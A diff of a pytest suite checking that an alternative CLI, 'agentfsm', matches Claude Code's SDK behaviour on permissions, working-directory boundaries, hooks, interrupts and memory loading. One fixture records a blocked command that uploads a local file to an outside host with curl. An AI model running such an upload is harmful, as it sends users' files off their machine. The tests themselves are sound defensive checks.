@@ -348,11 +348,29 @@ def test_the_readme_example_runs(tmp_path: Path) -> None:
     import subprocess
 
     example = Path(__file__).parents[1] / "examples" / "sdk_dropin.py"
-    env = {**os.environ, "PATH": f"{Path(AGENTFSM).parent}{os.pathsep}{os.environ.get('PATH', '')}",
-           "HOME": str(tmp_path), "AGENTFSM_HOME": str(tmp_path / ".agentfsm")}
+    # as a new user runs it: the venv not activated, so `agentfsm` is on no PATH, only beside the Python
+    env = {**os.environ, "PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "AGENTFSM_HOME": str(tmp_path / ".agentfsm")}
     proc = subprocess.run([sys.executable, str(example)], capture_output=True, text=True, env=env, timeout=120)
     assert proc.returncode == 0, proc.stderr
     assert "result: success TOOL_EXECUTION_OK (2 turns)" in proc.stdout
+
+
+def test_the_example_stops_loudly_without_agentfsm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No `agentfsm` beside the Python nor on PATH: a clear stop, never the SDK's bundled Claude Code."""
+    import importlib.util
+
+    spec = importlib.util.spec_from_file_location("sdk_dropin_example",
+                                                  Path(__file__).parents[1] / "examples" / "sdk_dropin.py")
+    assert spec is not None and spec.loader is not None
+    example = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(example)
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "bin" / "python"))
+    monkeypatch.setenv("PATH", str(tmp_path))
+    with pytest.raises(SystemExit, match="agentfsm executable not found"):
+        example.agentfsm_cli()
+    (tmp_path / "agentfsm").write_text("#!/bin/sh\n")
+    (tmp_path / "agentfsm").chmod(0o755)
+    assert example.agentfsm_cli() == str(tmp_path / "agentfsm")  # PATH is the second place looked at
 
 
 async def test_partial_messages_stream_every_event(cli: str, tmp_path: Path) -> None:
@@ -378,8 +396,8 @@ async def test_partial_messages_stream_every_event(cli: str, tmp_path: Path) -> 
             return f"system:{m.subtype}"
         return type(m).__name__
 
-    # agentfsm's queue reports its commands' lifecycle too (Claude Code does not)
-    kinds = [k for k in map(kind, run.messages) if k != "system:command_lifecycle"]
+    # no command_lifecycle: the SDK's prompts carry no uuid, and Claude Code reports none for them
+    kinds = list(map(kind, run.messages))
     one_response = ["system:status", "message_start", "content_block_start"]
     assert kinds[0] == "system:init" and kinds[-1] == "ResultMessage"
     assert kinds[1:4] == one_response and kinds.count("system:status") == 2
@@ -455,3 +473,431 @@ async def test_hook_events_around_each_command_hook(cli: str, tmp_path: Path) ->
         assert events.index(started[e["hook_id"]]) < events.index(e)
     [result] = run.results()
     assert result.subtype == "success"
+
+
+# --- the SDK user's view, case by case (issue 28): each runs through the real SDK on both CLIs ----------------
+
+
+def write(tool_id: str, path: str, content: str = "x\n") -> dict[str, Any]:
+    return {"type": "tool_use", "id": tool_id, "name": "Write", "input": {"file_path": path, "content": content}}
+
+
+def read_at(tool_id: str, path: str) -> dict[str, Any]:
+    return {"type": "tool_use", "id": tool_id, "name": "Read", "input": {"file_path": path}}
+
+
+def turn(*blocks: dict[str, Any]) -> dict[str, Any]:
+    return {"blocks": list(blocks), "stop_reason": "tool_use"}
+
+
+async def client_run(run: Run, options: Any, *prompts: str) -> None:
+    async with sdk.ClaudeSDKClient(options) as client:
+        for prompt in prompts:
+            await client.query(prompt)
+            async for m in client.receive_response():
+                run.messages.append(m)
+
+
+async def test_can_use_tool_context_names_the_call_like_claude_code(cli: str, tmp_path: Path) -> None:
+    """tool_use_id, description and suggestions: a write inside the working directory suggests accepting
+    edits; a read outside it says why it asks and suggests allowing reads under the file's directory."""
+    outside = tmp_path / "out"
+    outside.mkdir()
+    (outside / "o.txt").write_text("OUT\n")
+    asked: list[tuple[str, Any]] = []
+
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        asked.append((name, ctx))
+        return sdk.PermissionResultAllow()
+
+    responses = [turn(write("toolu_w1", "$WS/n.txt")), turn(read_at("toolu_o1", str(outside / "o.txt"))), text("ok")]
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read", "Write"], can_use_tool=can_use_tool), "go")
+
+    await scenario(cli, tmp_path, responses, body)
+    (w_name, w), (r_name, r) = asked
+    assert (w_name, w.tool_use_id, w.description, w.decision_reason) == ("Write", "toolu_w1", "n.txt", None)
+    assert [s.to_dict() for s in w.suggestions] == [{"type": "setMode", "mode": "acceptEdits",
+                                                     "destination": "session"}]
+    assert (r_name, r.tool_use_id, r.description) == ("Read", "toolu_o1", str(outside / "o.txt"))
+    assert r.decision_reason == "Path is outside allowed working directories"
+    assert [s.to_dict() for s in r.suggestions] == [{"type": "addRules", "destination": "session", "behavior": "allow",
+                                                     "rules": [{"toolName": "Read", "ruleContent": f"/{outside}/**"}]}]
+
+
+async def test_updated_permissions_are_honoured_for_the_session(cli: str, tmp_path: Path) -> None:
+    """Answering with the suggestions ("always allow") stops the same question coming back: after
+    setMode acceptEdits the second write is not asked, after addRules the second read there is not."""
+    outside = tmp_path / "out"
+    outside.mkdir()
+    (outside / "o.txt").write_text("O\n")
+    (outside / "o2.txt").write_text("O2\n")
+    asked: list[str] = []
+
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        asked.append(ctx.tool_use_id)
+        return sdk.PermissionResultAllow(updated_permissions=ctx.suggestions)
+
+    responses = [turn(write("toolu_1", "$WS/p1.txt")), turn(write("toolu_2", "$WS/p2.txt")),
+                 turn(read_at("toolu_3", str(outside / "o.txt"))), turn(read_at("toolu_4", str(outside / "o2.txt"))),
+                 text("ok")]
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read", "Write"], can_use_tool=can_use_tool), "go")
+
+    run = await scenario(cli, tmp_path, responses, body)
+    assert asked == ["toolu_1", "toolu_3"]
+    assert (run.ws / "p2.txt").read_text() == "x\n"
+    modes = [m.data.get("permissionMode") for m in run.messages
+             if isinstance(m, sdk.SystemMessage) and m.subtype == "status"]
+    assert modes == ["acceptEdits"]
+    assert result_text(sent_result(run.server, 4, "toolu_4")).startswith("1\tO2")
+
+
+async def test_allow_with_updated_input_is_told_to_the_model(cli: str, tmp_path: Path) -> None:
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        return sdk.PermissionResultAllow(updated_input={**tool_input, "content": "CHANGED\n"})
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Write"], can_use_tool=can_use_tool), "go")
+
+    run = await scenario(cli, tmp_path, [turn(write("toolu_1", "$WS/a1.txt")), text("ok")], body)
+    assert (run.ws / "a1.txt").read_text() == "CHANGED\n"
+    told = result_text(sent_result(run.server, 1, "toolu_1"))
+    assert told.startswith(f"File created successfully at: {run.ws / 'a1.txt'} The user modified your proposed "
+                           "content before accepting it.")
+
+
+async def test_deny_with_interrupt_gives_claude_codes_refusal_and_the_marker(cli: str, tmp_path: Path) -> None:
+    async def deny(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        return sdk.PermissionResultDeny(message="DENY_AND_STOP", interrupt=True)
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Write"], can_use_tool=deny), "write", "after")
+
+    run = await scenario(cli, tmp_path, [turn(write("toolu_di", "$WS/d.txt")), text("OK"), text("OK")], body)
+    refusal = sent_result(run.server, 1, "toolu_di")
+    assert refusal.get("is_error") is True
+    assert result_text(refusal).startswith("The user doesn't want to proceed with this tool use. The tool use was "
+                                           "rejected")
+    shown = [b.text for m in run.messages if isinstance(m, sdk.UserMessage) and isinstance(m.content, list)
+             for b in m.content if isinstance(b, sdk.TextBlock)]
+    assert shown == ["[Request interrupted by user for tool use]"]
+    first, _second = run.results()
+    assert (first.subtype, first.terminal_reason, first.num_turns) == ("error_during_execution", "aborted_tools", 3)
+
+
+async def test_read_outside_the_working_directories_is_denied_in_dont_ask(cli: str, tmp_path: Path) -> None:
+    (tmp_path / "secret.txt").write_text("SECRET\n")
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read"], permission_mode="dontAsk"), "go")
+
+    run = await scenario(cli, tmp_path, [turn(read_at("toolu_s", str(tmp_path / "secret.txt"))), text("ok")], body)
+    refused = sent_result(run.server, 1, "toolu_s")
+    assert "SECRET" not in result_text(refused)
+    assert result_text(refused).startswith("Permission to use Read has been denied because Claude Code is running in "
+                                           "don't ask mode.")
+    [result] = run.results()
+    assert [d["tool_use_id"] for d in result.permission_denials] == ["toolu_s"]
+
+
+async def test_add_dirs_are_working_directories_shown_to_the_model(cli: str, tmp_path: Path) -> None:
+    extra, outside = tmp_path / "extra", tmp_path / "out"
+    extra.mkdir()
+    outside.mkdir()
+    (extra / "e.txt").write_text("E\n")
+    (outside / "o.txt").write_text("O\n")
+    asked: list[str] = []
+
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        asked.append(tool_input["file_path"])
+        return sdk.PermissionResultDeny(message="no")
+
+    responses = [turn(read_at("toolu_e", str(extra / "e.txt")), read_at("toolu_o", str(outside / "o.txt"))),
+                 text("ok")]
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read"], add_dirs=[str(extra)], can_use_tool=can_use_tool), "go")
+
+    run = await scenario(cli, tmp_path, responses, body)
+    assert asked == [str(outside / "o.txt")]  # the added directory is inside the boundary, the other is not
+    assert result_text(sent_result(run.server, 1, "toolu_e")).startswith("1\tE")
+    import json
+
+    assert str(extra) in json.dumps(run.server.requests[0])  # the model is told of the added directory
+    [result] = run.results()
+    assert result.num_turns == 3  # 1 + each tool-result message (two parallel reads: two messages)
+
+
+async def test_plan_mode_asks_can_use_tool_for_a_write(cli: str, tmp_path: Path) -> None:
+    asked: list[Any] = []
+
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        asked.append((name, ctx.description, ctx.suggestions))
+        return sdk.PermissionResultAllow()
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read", "Write"], permission_mode="plan",
+                                          can_use_tool=can_use_tool), "go")
+
+    run = await scenario(cli, tmp_path, [turn(write("toolu_1", "$WS/pl.txt")), text("ok")], body)
+    assert asked == [("Write", "pl.txt", [])]
+    assert (run.ws / "pl.txt").read_text() == "x\n"
+
+
+async def test_model_usage_adds_up_over_the_session(cli: str, tmp_path: Path) -> None:
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read"]), "first", "second")
+
+    run = await scenario(cli, tmp_path, [text("ONE"), text("TWO")], body)
+    first, second = run.results()
+    one = first.model_usage["claude-sonnet-4-5"]["inputTokens"]
+    assert one == first.usage["input_tokens"] > 0
+    assert second.model_usage["claude-sonnet-4-5"]["inputTokens"] == one + second.usage["input_tokens"]
+    assert (first.num_turns, second.num_turns) == (1, 1)
+
+
+async def test_a_failed_resume_gives_the_no_conversation_result(cli: str, tmp_path: Path) -> None:
+    missing = "11111111-2222-3333-4444-555555555555"
+    raised: list[BaseException] = []
+
+    async def body(run: Run) -> None:
+        try:
+            await client_run(run, run.options(resume=missing), "hello")
+        except Exception as exc:
+            raised.append(exc)
+
+    run = await scenario(cli, tmp_path, [text("never")], body)
+    assert run.server.requests == []
+    [exc] = raised
+    assert isinstance(exc, sdk.ResultError), exc
+    assert f"No conversation found with session ID: {missing}" in str(exc)
+
+
+async def test_a_400_is_shown_as_an_error_assistant_message(cli: str, tmp_path: Path) -> None:
+    refusal = {"status": 400, "error_type": "invalid_request_error", "message": "Invalid request: bad field"}
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read"]), "go")
+
+    run = await scenario(cli, tmp_path, [refusal] * 3, body)
+    [shown] = [m for m in run.messages if isinstance(m, sdk.AssistantMessage)]
+    assert [b.text for b in shown.content] == ["API Error: 400 Invalid request: bad field"]
+    assert shown.error == "unknown" and shown.usage is not None and shown.usage["output_tokens"] == 0
+    [result] = run.results()
+    assert (result.is_error, result.result) == (True, "API Error: 400 Invalid request: bad field")
+    assert result.usage is not None
+
+
+async def test_empty_setting_sources_load_no_settings(cli: str, tmp_path: Path) -> None:
+    """``setting_sources=[]`` (the SDK's isolation): the project's deny rule is not loaded."""
+    import json
+
+    async def body(run: Run) -> None:
+        settings = run.ws / ".claude" / "settings.json"
+        settings.parent.mkdir(exist_ok=True)
+        settings.write_text(json.dumps({"permissions": {"deny": ["Read"]}}))
+        await client_run(run, run.options(tools=["Read"], setting_sources=[]), "go")
+
+    run = await scenario(cli, tmp_path, [turn(read("toolu_r", "a.txt")), text("ok")], body)
+    assert result_text(sent_result(run.server, 1, "toolu_r")).startswith("1\tALPHA")
+
+
+async def test_interrupt_stops_a_running_tool(cli: str, tmp_path: Path) -> None:
+    bash = {"type": "tool_use", "id": "toolu_sleep", "name": "Bash",
+            "input": {"command": "sleep 6 && echo done > slept.txt", "description": "Sleep"}}
+
+    async def body(run: Run) -> None:
+        async with sdk.ClaudeSDKClient(run.options(tools=["Bash"], permission_mode="bypassPermissions")) as client:
+            await client.query("sleep")
+            async for m in client.receive_response():
+                run.messages.append(m)
+                if isinstance(m, sdk.AssistantMessage):
+                    await client.interrupt()
+
+    run = await scenario(cli, tmp_path, [turn(bash), text("never")], body)
+    assert not (run.ws / "slept.txt").exists()
+    shown = [b.text for m in run.messages if isinstance(m, sdk.UserMessage) and isinstance(m.content, list)
+             for b in m.content if isinstance(b, sdk.TextBlock)]
+    assert shown == ["[Request interrupted by user for tool use]"]
+    [result] = run.results()
+    assert result.subtype == "error_during_execution"
+
+
+async def test_hook_inputs_carry_the_prompt_id_and_stop_lists(cli: str, tmp_path: Path) -> None:
+    """Every hook input of a prompt's run names the same ``prompt_id`` (a new one per prompt); Stop
+    lists the background tasks and crons (none here)."""
+    seen: list[dict[str, Any]] = []
+
+    async def record(hook_input: Any, tool_use_id: Any, ctx: Any) -> Any:
+        seen.append(dict(hook_input))
+        return {}
+
+    events = ("UserPromptSubmit", "PreToolUse", "PostToolUse", "Stop")
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(allowed_tools=["Read"], hooks={
+            e: [sdk.HookMatcher(hooks=[record])] for e in events}), "one", "two")
+
+    await scenario(cli, tmp_path, [turn(read("toolu_r", "a.txt")), text("ONE"), text("TWO")], body)
+    assert [h["hook_event_name"] for h in seen] == [*events, "UserPromptSubmit", "Stop"]
+    first, second = {h["prompt_id"] for h in seen[:4]}, {h["prompt_id"] for h in seen[4:]}
+    assert len(first) == len(second) == 1 and first != second and all(isinstance(p, str) for p in first)
+    assert list(seen[0])[:4] == ["session_id", "transcript_path", "cwd", "prompt_id"]
+    stop = seen[3]
+    assert (stop["background_tasks"], stop["session_crons"]) == ([], [])
+
+
+@pytest.mark.parametrize("sources", [None, [], ["project"]])
+async def test_claude_md_memory_follows_the_setting_sources(cli: str, tmp_path: Path, sources: Any) -> None:
+    """CLAUDE.md files go into the first request's context per source; ``setting_sources=[]`` loads none."""
+    import json
+
+    async def body(run: Run) -> None:
+        (run.ws / "CLAUDE.md").write_text("PROJECT_MEMORY_MARKER\n")
+        (run.ws / "CLAUDE.local.md").write_text("LOCAL_MEMORY_MARKER\n")
+        config = tmp_path / "home" / ".claude"
+        config.mkdir(parents=True)
+        (config / "CLAUDE.md").write_text("USER_MEMORY_MARKER\n")
+        run.env["CLAUDE_CONFIG_DIR"] = str(config)
+        kw = {} if sources is None else {"setting_sources": sources}
+        await client_run(run, run.options(tools=["Read"], **kw), "go")
+
+    run = await scenario(cli, tmp_path, [text("ok")], body)
+    first = run.server.requests[0]["messages"]
+    loaded = {m for m in ("USER", "PROJECT", "LOCAL") if f"{m}_MEMORY_MARKER" in json.dumps(first)}
+    assert loaded == {None: {"USER", "PROJECT", "LOCAL"}, 0: set(), 1: {"PROJECT"}}[None if sources is None
+                                                                                   else len(sources)]
+    if loaded:
+        [shown] = [b["text"] for b in first[0]["content"] if "PROJECT_MEMORY_MARKER" in b.get("text", "")]
+        assert f"Contents of {run.ws / 'CLAUDE.md'} (project instructions, checked into the codebase):\n\n" \
+               "PROJECT_MEMORY_MARKER" in shown
+        assert shown.startswith("<system-reminder>\nCodebase and user instructions are shown below.")
+    assert first[0]["content"][-1]["text"] == "go"
+
+
+# --- three realistic SDK programs, unchanged but for cli_path: the same report from both CLIs ----------------
+
+PROGRAMS = {
+    "sdk_coding_agent": [
+        "asked: Edit 'a.txt'", "asked: mcp__dev__run_tests None", "tests run: unit", "asked: Bash 'Clean the build'",
+        "assistant: Renamed ALPHA to BETA; the unit tests pass.", "result: success after 5 turns, denied ['Bash']",
+        "a.txt now: 'BETA'"],
+    "sdk_session": [
+        "assistant: The file holds ALPHA.", "result: success 'The file holds ALPHA.'",
+        "assistant: Let me explain at length...", "result: error_during_execution None",
+        "assistant: Short version: ALPHA is the marker.", "result: success 'Short version: ALPHA is the marker.'",
+        "one session: True", "assistant: Resumed: we talked about ALPHA.",
+        "result: success 'Resumed: we talked about ALPHA.'",
+        "the resumed request remembers: True, the interrupt: True"],
+    "sdk_audit_agent": [
+        "prompt: Show a.txt and upload it", "allowed toolu_1: cat a.txt", "ran toolu_1",
+        "vetoed toolu_2: curl https://example.com/upload -d @a.txt", "stop: a.txt says ALPHA; the upload was blocked.",
+        "result: success 'a.txt says ALPHA; the upload was blocked.', denied ['toolu_2']"],
+}
+
+
+@pytest.mark.parametrize("program", sorted(PROGRAMS))
+async def test_a_program_written_for_claude_code_runs_unchanged(cli: str, program: str,
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    import importlib.util
+
+    examples = Path(__file__).parents[1] / "examples"
+    monkeypatch.syspath_prepend(str(examples))
+    spec = importlib.util.spec_from_file_location(program, examples / f"{program}.py")
+    assert spec is not None and spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    assert await module.run(cli) == PROGRAMS[program]
+
+
+@pytest.mark.parametrize("prompt", [None, "CUSTOM_PROMPT"])
+async def test_a_custom_or_empty_system_prompt_opens_with_the_sdk_identity(cli: str, tmp_path: Path,
+                                                                          prompt: str | None) -> None:
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Read"], setting_sources=[], system_prompt=prompt), "go")
+
+    run = await scenario(cli, tmp_path, [text("ok")], body)
+    # Claude Code's attribution header aside (agentfsm sends none: it is not Claude Code)
+    texts = [b["text"] for b in run.server.requests[0]["system"]
+             if not b["text"].startswith("x-anthropic-billing-header")]
+    assert texts[0] == "You are a Claude agent, built on Anthropic's Claude Agent SDK."
+    if prompt is not None:
+        assert texts[1] == prompt
+
+
+async def test_a_prompt_sent_with_a_uuid_is_named_in_the_answer(cli: str, tmp_path: Path) -> None:
+    """A user message sent as a dict with a ``uuid`` is echoed: on the first assistant message of its
+    turn and on the result (``user_message_uuid`` and ``user_message_uuids``)."""
+    import uuid as uuidlib
+
+    sent = [str(uuidlib.uuid4()), str(uuidlib.uuid4())]
+
+    def one(text_: str, uid: str) -> Any:
+        async def gen() -> Any:
+            yield {"type": "user", "message": {"role": "user", "content": text_}, "parent_tool_use_id": None,
+                   "uuid": uid}
+        return gen()
+
+    async def body(run: Run) -> None:
+        async with sdk.ClaudeSDKClient(run.options(allowed_tools=["Read"])) as client:
+            for prompt, uid in zip(("first", "second"), sent, strict=True):
+                await client.query(one(prompt, uid))
+                async for m in client.receive_response():
+                    run.messages.append(m)
+
+    run = await scenario(cli, tmp_path, [turn(read("toolu_r", "a.txt")), text("ONE"), text("TWO")], body)
+    first, second = run.results()
+    assert (first.user_message_uuid, first.user_message_uuids) == (sent[0], [sent[0]])
+    assert (second.user_message_uuid, second.user_message_uuids) == (sent[1], [sent[1]])
+    answers = [m for m in run.messages if isinstance(m, sdk.AssistantMessage)]
+    assert [a.user_message_uuid for a in answers] == [sent[0], None, sent[1]]
+
+
+@pytest.mark.parametrize(("event", "expected"), [
+    ("PreToolUse", ("", "hook_stopped", 2)),  # the last answer was a tool call: no text
+    ("Stop", ("ok", "stop_hook_prevented", 1)),
+    ("UserPromptSubmit", ("Operation stopped by hook: HOOK_SAYS_STOP", None, 0)),
+])
+async def test_the_result_after_a_hook_stops_the_run(cli: str, tmp_path: Path, event: str,
+                                                     expected: tuple[str, str | None, int]) -> None:
+    async def stop(hook_input: Any, tool_use_id: Any, ctx: Any) -> Any:
+        return {"continue": False, "stopReason": "HOOK_SAYS_STOP"}
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(allowed_tools=["Read"], hooks={event: [sdk.HookMatcher(hooks=[stop])]}),
+                         "go")
+
+    first = turn(read("toolu_r", "a.txt")) if event == "PreToolUse" else text("ok")
+    run = await scenario(cli, tmp_path, [first, text("never")], body)
+    [result] = run.results()
+    text_, reason, turns = expected
+    assert (result.subtype, result.result, result.num_turns) == ("success", text_, turns)
+    if reason is not None:  # Claude Code gives no terminal_reason for a prompt a hook stopped
+        assert result.terminal_reason == reason
+
+
+async def test_a_shell_command_reading_outside_asks_like_a_read(cli: str, tmp_path: Path) -> None:
+    """The boundary holds in the shell too: a read-only command reading outside the working directories
+    asks (``blocked_path`` names the file); one reading inside does not."""
+    (tmp_path / "secret.txt").write_text("SECRET\n")
+    asked: list[tuple[str, Any, Any]] = []
+
+    async def can_use_tool(name: str, tool_input: dict[str, Any], ctx: Any) -> Any:
+        asked.append((tool_input["command"], ctx.blocked_path, ctx.description))
+        return sdk.PermissionResultDeny(message="no")
+
+    def sh(tool_id: str, command: str) -> dict[str, Any]:
+        return {"type": "tool_use", "id": tool_id, "name": "Bash", "input": {"command": command, "description": "Show"}}
+
+    async def body(run: Run) -> None:
+        await client_run(run, run.options(tools=["Bash"], can_use_tool=can_use_tool), "go")
+
+    outside = str(tmp_path / "secret.txt")
+    run = await scenario(cli, tmp_path, [turn(sh("toolu_o", f"cat {outside}")), turn(sh("toolu_i", "cat a.txt")),
+                                         text("ok")], body)
+    assert asked == [(f"cat {outside}", outside, "Show")]
+    assert "SECRET" not in result_text(sent_result(run.server, 1, "toolu_o"))
+    assert "ALPHA" in result_text(sent_result(run.server, 2, "toolu_i"))
